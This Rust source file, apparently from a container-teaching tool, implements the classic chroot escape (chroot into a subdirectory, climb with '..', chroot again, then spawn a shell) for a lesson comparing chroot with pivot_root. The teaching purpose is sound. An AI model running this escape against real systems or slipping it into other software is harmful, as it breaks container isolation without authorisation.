//! `underhood chroot-escape [CMD...]`: the classic way out of a chroot, for the lesson
//! that compares chroot(2) with pivot_root(2). chroot(2) does not change the current
//! directory, and `..` stops only at the process's root: so chroot into a
//! subdirectory (the cwd is now *outside* the root), climb with `..` as far as the
//! real root, and chroot there. After pivot_root and unmounting the old root there is
//! nothing above the container's root to climb to. Needs CAP_SYS_CHROOT.
//!
//! Inside one of our containers (`container=underhood` in its environment, as our exec
//! step sets it) it leaves a report in /tmp/chroot-escape.report, opened before the
//! climb, so in the container's /tmp: the device and inode of the root it started in
//! and of the root it reached, as stat(2) gives them (`stat -c %d:%i`). The lessons'
//! checks compare them with the container's root and the host's, seen from the host.
//! Run on the host by mistake, it writes nothing there.

use std::os::unix::process::CommandExt;
use std::process::{Command, ExitCode};

/// `DEV:INO` of a directory, as `stat -c %d:%i` prints it.
fn dev_ino(path: &str) -> String {
    use std::os::unix::fs::MetadataExt;
    std::fs::metadata(path)
        .map(|m| format!("{}:{}", m.dev(), m.ino()))
        .unwrap_or_else(|e| format!("? ({e})"))
}

pub const REPORT: &str = "/tmp/chroot-escape.report";

pub fn main(cmd: &[String]) -> ExitCode {
    let started = dev_ino("/");
    let ours = std::env::var_os("container").is_some_and(|v| v == "underhood");
    let mut report = if ours {
        std::fs::File::create(REPORT)
            .map_err(|e| eprintln!("chroot-escape: {REPORT}: {e} (no report)"))
            .ok()
    } else {
        None
    };
    let dir = "/.underhood-escape";
    if let Err(e) = std::fs::create_dir_all(dir) {
        eprintln!("chroot-escape: mkdir {dir}: {e}");
        return ExitCode::from(1);
    }
    // A handle on the starting root, to remove our directory again once out.
    let start = std::fs::File::open("/");
    let chrooted = nix::unistd::chroot(dir);
    if let Ok(root) = &start {
        use std::os::fd::AsFd;
        let _ = nix::unistd::unlinkat(
            root.as_fd(),
            ".underhood-escape",
            nix::unistd::UnlinkatFlags::RemoveDir,
        );
    }
    if let Err(e) = chrooted {
        eprintln!("chroot-escape: chroot({dir}): {e} (CAP_SYS_CHROOT is needed)");
        return ExitCode::from(1);
    }
    for _ in 0..128 {
        if nix::unistd::chdir("..").is_err() {
            break;
        }
    }
    if let Err(e) = nix::unistd::chroot(".") {
        eprintln!("chroot-escape: chroot(\".\"): {e}");
        return ExitCode::from(1);
    }
    let _ = nix::unistd::chdir("/");
    let reached = dev_ino("/");
    eprintln!(
        "chroot-escape: climbed as far as `..` goes and made it the root (dev:inode {reached}; started in {started})"
    );
    if let Some(f) = report.as_mut() {
        use std::io::Write;
        let _ = writeln!(f, "started {started}\nreached {reached}");
    }
    drop(report);
    let (prog, args) = match cmd.split_first() {
        Some((p, a)) => (p.clone(), a.to_vec()),
        None => ("/bin/sh".to_string(), Vec::new()),
    };
    let err = Command::new(&prog).args(&args).exec();
    eprintln!("chroot-escape: {prog}: {err}");
    ExitCode::from(127)
}
